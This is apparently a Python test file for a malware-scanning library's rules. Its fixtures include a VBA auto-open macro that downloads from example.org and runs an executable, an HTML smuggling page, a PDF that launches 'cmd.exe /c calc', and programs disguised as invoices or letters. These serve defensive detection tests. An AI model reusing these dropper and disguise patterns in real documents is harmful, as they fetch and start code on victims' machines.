"""The rules: what is a threat, what is only flagged, and what is neither."""

import struct
from pathlib import Path

from sluice_inspect import threats
from tests.inspection.threats.compound_files import compound, packaged
from tests.inspection.threats.containers import docx, docx_with_package, pdf_launch, pdf_script
from tests.inspection.threats.packed_files import scan_bytes, threat_in, zipped
from tests.inspection.threats.test_program_names import PE
from tests.rows import each_row

_FOLDER = Path(threats.__file__).parent / "rules"
SHORTCUT = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(60)
BASE64_PROGRAM = b"TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA" * 2
SMUGGLING = b"<html><body><script>var a = atob('%b'); URL.createObjectURL(new Blob([a]));</script></body></html>"


def svg(inside: bytes, before: bytes = b"") -> bytes:
    return before + b'<svg xmlns="http://www.w3.org/2000/svg">' + inside + b"</svg>"


def vba_stream(source: bytes) -> bytes:
    """Return a stream with the source of a macro, compressed without back-references."""
    source = b"Attribute VB_Name\r\n" + source
    packed = b""
    for at in range(0, len(source), 3000):
        chunk = b"".join(b"\0" + source[index : index + 8] for index in range(at, min(at + 3000, len(source)), 8))
        packed += struct.pack("<H", 0xB000 | (len(chunk) - 1)) + chunk
    return b"performance cache" + b"\x01" + packed


def with_macro(source: bytes) -> bytes:
    project = compound({"VBA/_VBA_PROJECT": b"\xcc\x61", "VBA/Module1": vba_stream(source)})
    return docx(project, "word/vbaProject.bin")


DROPPER = b"""Sub AutoOpen()
Set x = CreateObject("MSXML2.XMLHTTP")
x.Open "GET", "http://example.org/a", False
CreateObject("WScript.Shell").Run "a.exe"
End Sub
"""


@each_row(
    ("case", "data", "threat"),
    [
        ("svg, script", svg(b"<script>alert(1)</script>"), "Svg.Script"),
        ("svg, prefixes", b'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>1</s:script></s:svg>', "Svg.Script"),
        (
            "svg, prolog",
            svg(b"<script/>", b"\xef\xbb\xbf<?xml version='1.0'?>\n<!-- a --><!DOCTYPE svg [<!ENTITY a 'b'>]>"),
            "Svg.Script",
        ),
        ("svg, after a page in a comment", svg(b"<script/>", b"<!-- <html> -->"), "Svg.Script"),
        ("page with an embedded program", SMUGGLING % BASE64_PROGRAM, "Script.Smuggled-Program"),
        ("pdf that starts its attachment",
         pdf_script("this.exportDataObject({cName: 'a', nLaunch: 2});"), "Pdf.Launches-Attachment"),
        ("pdf that starts a command", pdf_launch("cmd.exe /c calc"), "Pdf.Launches-Program"),
        ("pdf that starts a program of Windows", pdf_launch("setup.EXE", "/Win"), "Pdf.Launches-Program"),
        ("packaged program", docx_with_package(PE, b"invoice.pdf.exe"), "Package.Program"),
        ("packaged script", docx_with_package(b"x=1", b"a.js"), "Package.Program"),
        ("packaged program under another name", docx_with_package(PE, b"invoice.txt"), "Package.Program"),
        ("packaged program without an extension", docx_with_package(PE, b"invoice"), "Package.Program"),
        ("packaged shortcut", packaged(b"x", b"a.lnk"), "Package.Program"),
        ("shortcut under the name of a document", zipped({"letter.pdf": SHORTCUT}), "Disguised-Program.Shortcut"),
        ("macro that fetches and starts", with_macro(DROPPER), "Macro.Fetches-And-Starts"),
    ],
)  # fmt: skip
def test_content_that_acts_by_itself_is_a_threat(case: str, data: bytes, threat: str) -> None:
    assert threat_in(data) == threat


@each_row(
    ("case", "data", "flags"),
    [
        ("macro", with_macro(b"Sub Sum()\nEnd Sub\n"), ["macro"]),
        ("macro that runs by itself",
         with_macro(b"Private Sub Document_Open()\nMsgBox 1\nEnd Sub\n"), ["macro", "macro.autorun"]),
        ("macro in several chunks",
         with_macro(b"' " + b"x" * 9000 + b"\nSub Workbook_Open()\nEnd Sub\n"), ["macro", "macro.autorun"]),
        ("macro without source", docx(compound({"VBA/_VBA_PROJECT": b"\xcc\x61"}), "word/vbaProject.bin"), ["macro"]),
        ("sheet of macros", compound({"Workbook": struct.pack("<HHLBB", 0x85, 6, 0, 0, 1)}), ["macro.sheet"]),
        ("packaged text", docx_with_package(b"text", b"a.txt"), ["package"]),
        ("page with a script", b"<html><script>1</script></html>", ["script.html"]),
        ("pdf with a script", pdf_script("app.alert(1)"), ["script.pdf"]),
        ("pdf that opens another", pdf_launch("other.pdf"), ["launch.pdf"]),
    ],
)  # fmt: skip
def test_possibly_harmless_content_is_flagged(case: str, data: bytes, flags: list[str]) -> None:
    result = scan_bytes(data)
    assert (result["threat"], result["complete"], result["flags"]) == (None, True, flags)


@each_row(
    ("case", "data"),
    [
        ("svg that mentions scripts", svg(b"<title>on load = never</title><desc>a script: none</desc>")),
        ("text about scripts", b"A text about script elements and javascript: in SVG"),
        ("text about macros", b"Sub AutoOpen() is run by Word; so is MSXML2.XMLHTTP with WScript.Shell"),
        ("document that mentions commands", docx(b"<w:t>cmd.exe /c</w:t>", "word/footer.xml")),
        ("page with a link to a program", b"<html><a href='a.exe'>program</a></html>"),
    ],
)
def test_text_about_threats_is_neither_threat_nor_flag(case: str, data: bytes) -> None:
    result = scan_bytes(data)
    assert (result["threat"], result["complete"], result["flags"]) == (None, True, [])


def test_only_the_eicar_rule_applies_to_unknown_content() -> None:
    # `rulebook.apply` skips such content unless it contains EICAR
    rules = [rule for path in _FOLDER.glob("*.yar") for rule in path.read_text().split("\nrule ")[1:]]
    conditions = {rule.split()[0]: rule.partition("condition:")[2] for rule in rules}
    general = [name for name, each in conditions.items() if "kind ==" not in each and "says " not in each]
    assert general == ["eicar"]


def test_every_rule_has_a_name_and_one_tag() -> None:
    from sluice_inspect.threats.rulebook import compiled  # noqa: PLC0415  (loads the library)

    rules = list(compiled())
    assert rules
    for rule in rules:
        assert dict(rule.metadata)["name"], rule.identifier
        assert list(rule.tags) in (["threat"], ["flag"]), rule.identifier


def test_rule_files_are_not_threats_themselves() -> None:
    for path in _FOLDER.iterdir():
        assert threat_in(path.read_bytes(), path.name) is None
